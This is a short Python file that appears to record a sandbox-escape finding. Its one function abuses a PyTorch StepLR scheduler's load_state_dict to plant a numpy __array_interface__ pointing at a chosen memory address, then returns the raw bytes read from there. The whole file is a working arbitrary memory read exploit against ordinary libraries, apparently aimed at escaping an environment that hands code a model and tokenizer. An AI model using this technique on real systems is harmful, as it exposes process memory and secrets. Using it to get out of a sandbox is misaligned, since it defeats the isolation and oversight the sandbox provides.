"""Class: memory. Source: own find. Escape: a scheduler's load_state_dict sets any attribute."""

import numpy as np
import torch


def attack(model, tokenizer, address):
    opt = torch.optim.SGD([torch.zeros(1, requires_grad=True)], lr=1)
    sched = torch.optim.lr_scheduler.StepLR(opt, 1)
    sched.load_state_dict(
        {
            "__array_interface__": {
                "shape": (6,),
                "typestr": "|u1",
                "data": (address, True),
                "version": 3,
            }
        }
    )
    return np.array(sched).tobytes()
